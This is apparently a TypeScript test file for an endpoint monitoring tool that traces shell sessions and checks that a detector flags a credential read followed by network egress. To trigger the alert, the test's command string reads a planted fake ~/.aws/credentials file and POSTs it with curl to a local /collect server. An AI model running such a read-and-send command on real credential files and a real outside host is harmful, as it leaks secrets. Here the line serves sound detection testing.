// Real process telemetry: `agentwarden run` (eBPF when available, else the degraded ptrace
// mode) traces a shell that reads a credentials file and then sends a request with another
// process (curl) to a loopback HTTP server; the detect transform raises the critical
// credential-then-egress alert on that session. A benign command raises nothing.
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { test } from 'node:test';
import { validateEvent, type AwEvent } from '../../schema/index.js';
import { cliEntry, tempHome } from '../../testing/index.js';
import { createDetector } from './index.js';

const has = (bin: string) => spawnSync('sh', ['-c', `command -v ${bin}`]).status === 0;
const skip = !has('curl') ? 'needs curl' : false;

function run(home: string, mode: string[], cmd: string): Promise<{ code: number; events: AwEvent[] }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [cliEntry(), '--store', home, 'run', '--json', ...mode, '--', 'sh', '-c', cmd], { stdio: ['ignore', 'pipe', 'pipe'], env: { ...process.env, NO_COLOR: '1' } });
    let out = '';
    child.stdout.on('data', (d) => (out += d));
    child.stderr.resume();
    const timer = setTimeout(() => child.kill('SIGKILL'), 120_000);
    child.on('close', (code) => {
      clearTimeout(timer);
      const events: AwEvent[] = [];
      for (const line of out.split('\n')) {
        let raw: unknown;
        try {
          raw = JSON.parse(line);
        } catch {
          continue; // the traced command's own output shares stdout
        }
        const v = validateEvent(raw);
        if (v.ok) events.push(v.event);
      }
      resolve({ code: code ?? -1, events });
    });
  });
}

/** eBPF mode, or ptrace when the kernel sensor is unavailable (exit 3); undefined when neither works. */
async function traced(home: string, cmd: string): Promise<AwEvent[] | undefined> {
  const r = await run(home, [], cmd);
  if (r.code !== 3) return r.events;
  if (!has('strace')) return undefined;
  return (await run(home, ['--mode', 'ptrace'], cmd)).events;
}

test('credential read then egress by another process of the traced session', { skip, timeout: 180_000 }, async (t) => {
  const server = createServer((req, res) => {
    req.resume();
    req.on('end', () => res.end('ok'));
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const port = (server.address() as AddressInfo).port;
  try {
    const home = tempHome('aw-detect-kernel-');
    const fake = join(home, 'victim');
    mkdirSync(join(fake, '.aws'), { recursive: true });
    writeFileSync(join(fake, '.aws', 'credentials'), '[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n');
    const events = await traced(home, `cat ${fake}/.aws/credentials > ${home}/x; curl -s -o /dev/null -m 5 -X POST --data-binary @${home}/x http://127.0.0.1:${port}/collect`);
    if (!events) return t.skip('needs the eBPF sensor or strace');
    assert.ok(events.some((e) => e.kind === 'file.open' && e.file?.path.endsWith('/.aws/credentials')), 'the read was captured');
    const det = createDetector({});
    const alerts = events.flatMap((e) => det.alertsFor(e));
    const crit = alerts.filter((a) => a.alert!.rule_id === 'cred.read_then_egress');
    assert.equal(crit.length, 1, alerts.map((a) => a.alert!.rule_id).join(', '));
    const sid = events.find((e) => e.file?.path.endsWith('/.aws/credentials'))!.session?.id;
    assert.ok(sid, 'events are attributed to a session');
    assert.equal(crit[0].session?.id, sid);
    const triggers = crit[0].alert!.trigger_ids!.map((id) => events.find((e) => e.id === id)!);
    assert.equal(triggers.length, 2);
    assert.notEqual(triggers[0].process?.pid, triggers[1].process?.pid, 'read and egress by different processes');
    assert.equal(triggers[1].process?.exe?.split('/').pop(), 'curl');

    const benign = await traced(tempHome('aw-detect-kernel-b-'), 'ls -la > /dev/null; git --version > /dev/null; true');
    const det2 = createDetector({});
    const quiet = (benign ?? []).flatMap((e) => det2.alertsFor(e));
    assert.deepEqual(quiet.map((a) => a.alert!.rule_id), []);
  } finally {
    server.closeAllConnections();
    server.close();
  }
});
